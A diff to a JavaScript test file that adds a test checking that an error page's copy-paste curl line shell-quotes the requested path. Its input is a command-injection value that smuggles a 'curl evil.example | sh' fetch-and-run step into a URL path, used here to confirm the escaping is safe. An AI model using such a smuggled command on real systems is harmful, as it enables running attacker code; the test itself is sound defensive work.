@@ -74,6 +74,16 @@ test('a problem is told with the way on, and escaped', () => {
   expect(problemPage({ ...problem, status: 404 })).not.toContain('curl');
 });
 
+test('a line to paste holds the address that was asked as one word, whatever stands in it', () => {
+  const path = "/api/v1/runs/;curl$IFS'evil.example'|sh;/";
+  const page = problemPage({ title: 'T', message: 'm', requestId: 'r', baseUrl: 'http://h', path, status: 401 });
+  const line = page
+    .replaceAll('&#39;', "'")
+    .split('\n')
+    .find((text) => text.includes('evil'));
+  expect(line).toContain(` 'http://h/api/v1/runs/;curl$IFS'\\''evil.example'\\''|sh;/' -H`);
+});
+
 test('descriptions are shown as they are meant, and nothing of them runs', async () => {
   const text = `**Bold** and \`code\`\n\n- one ${EVIL}\n- two\n\n| a | b |\n|---|---|\n| 1 | **2** |\n\nlast`;
   const page = String(await markdown(text, 3)).replace(/\s+/g, ' ');
